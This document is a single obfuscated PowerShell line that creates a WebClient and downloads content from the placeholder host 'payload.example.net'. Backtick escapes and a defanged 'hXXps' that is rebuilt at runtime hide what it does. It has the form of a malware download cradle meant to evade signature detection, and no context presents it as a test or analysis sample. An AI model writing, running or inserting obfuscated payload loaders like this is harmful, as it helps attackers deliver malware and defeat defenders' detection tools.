("Ne`w-Ob`ject Net.WebC`lient")."Down`load`String"('hXXps://payload.example.net/c'.Replace('hXXp','http'))
